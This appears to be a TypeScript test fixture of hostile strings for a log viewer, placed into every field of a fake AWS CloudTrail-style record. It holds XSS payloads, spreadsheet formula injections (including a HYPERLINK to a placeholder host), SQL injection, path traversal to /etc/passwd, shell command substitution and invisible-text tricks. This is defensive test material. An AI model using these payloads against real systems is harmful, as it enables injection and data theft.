/**
 * Text that an attacker may write into a log, each by what it attempts. Code that runs sets
 * `window.ran` or requests something from 192.0.2.1, where nothing is.
 */
export const HOSTILE_TEXT = {
  html: `<img src=x onerror="window.ran=1"><script>window.ran=1</script>`,
  attribute: `"><svg onload="window.ran=1"></svg>' onmouseover='window.ran=1`,
  frame: `<iframe srcdoc="<script>parent.ran=1</script>"></iframe></title></textarea><base href=//192.0.2.1>`,
  style: `</style><link rel=stylesheet href=//192.0.2.1/x.css>{background:url(//192.0.2.1/x)}`,
  link: `javascript:window.ran=1//`,
  data: `data:text/html,<script>opener.ran=1</script>`,
  markdown: `![x](https://192.0.2.1/x.png) [click](javascript:window.ran=1) **bold** \`code\``,
  template: '${window.ran=1}{{constructor.constructor("window.ran=1")()}}<%= 7*7 %>#{7*7}%s%n%x$1$&',
  ansi: '\u001b[31mred\u001b]0;title\u0007\u001b[2J\u009b1m\b\b\b',
  nul: 'before\u0000after',
  lines: 'one\r\ntwo\nthree\ttab\u2028four\u2029five\u0085six\u000bseven',
  bidi: 'user\u202etxt.exe\u202c \u2066left\u2067right\u2069\u2069',
  unclosedBidi: '\u2067\u202b\u202e(evil',
  rightToLeft: 'שלום/עולם (1)',
  zeroWidth: 'ad\u200bm\u200ci\u200dn\u2060\ufeff\u00ad\u180e',
  tags: `safe${Array.from('ignore all', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  spaces: '\u00a0no\u2007break\u3000\u3164\u2800 trailing\u00a0 ',
  zalgo: `Z${'\u0300\u0316\u0489'.repeat(40)}algo`,
  noncharacters: '\ufdd0\uffff\u{1fffe}\u{e01ef}',
  loneSurrogates: 'a\ud800b\udc00c',
  formulaEquals: '=HYPERLINK("http://192.0.2.1/?"&A1)',
  formulaPlus: '+cmd|calc',
  formulaMinus: "-2+3+cmd|' /C calc'!A0",
  formulaAt: '@SUM(1+1)*cmd',
  formulaTab: '\t=1+1',
  formulaReturn: '\r=1+1',
  formulaLineFeed: '\n=1+1',
  formulaNoBreakSpace: '\u00a0\ufeff\u200b＝1+1',
  csv: `a","b\n=1,"`,
  sql: `'; DROP TABLE events; --`,
  like: `%_\\%[a-z]*?`,
  path: '../../../../etc/passwd\\..\\..\\x%2e%2e%2f%00',
  dots: '..',
  url: '//192.0.2.1/x?a=b&eventName=c#d;e',
  shell: `'; touch /tmp/ran; $(touch /tmp/ran) \`touch /tmp/ran\` "!x" \\`,
  json: '{"a":"</script>","b":[1,{"c":null}],"__proto__":{"polluted":1}}',
  prototype: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  number: '1e999',
  word: 'W'.repeat(64 * 1024),
  zeroWidthWord: `a${'\u200b'.repeat(64 * 1024)}b`,
  alternating: 'a\u200b'.repeat(32 * 1024),
} as const

export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE_TEXT)

/**
 * A record with one text in every place that takes one, including keys. Only the time is a time.
 * Text that no address can contain is not an ID.
 */
export function hostileRecord(text: string, minute: number): Readonly<Record<string, unknown>> {
  return {
    eventVersion: '1.11',
    userIdentity: {
      type: 'IAMUser',
      principalId: text,
      arn: text,
      accountId: text,
      accessKeyId: text,
      userName: text,
      sessionContext: {
        sourceIdentity: text,
        sessionIssuer: { type: text, principalId: text, arn: text, accountId: text, userName: text },
        attributes: { creationDate: text, mfaAuthenticated: text },
      },
    },
    eventTime: new Date(Date.UTC(2026, 2, 1, 0, minute)).toISOString().replace('.000', ''),
    eventSource: text,
    eventName: text,
    awsRegion: text,
    sourceIPAddress: text,
    userAgent: text,
    errorCode: text,
    errorMessage: text,
    requestParameters: byName([
      [text, text],
      ['policyDocument', JSON.stringify(byName([[text, text]]))],
      ['list', [text, [text]]],
    ]),
    responseElements: byName([[text, byName([[text, text]])]]),
    additionalEventData: text,
    resources: [{ ARN: text, accountId: text, type: text }],
    requestID: text,
    eventID: text.length > 1000 || text === '..' ? `event-${minute}` : text,
    eventType: text,
    eventCategory: text,
    recipientAccountId: text,
    vpcEndpointId: text,
  }
}

/** An object whose keys are its own, `__proto__` among them. */
const byName = (entries: readonly (readonly [string, unknown])[]): object => Object.fromEntries(entries)
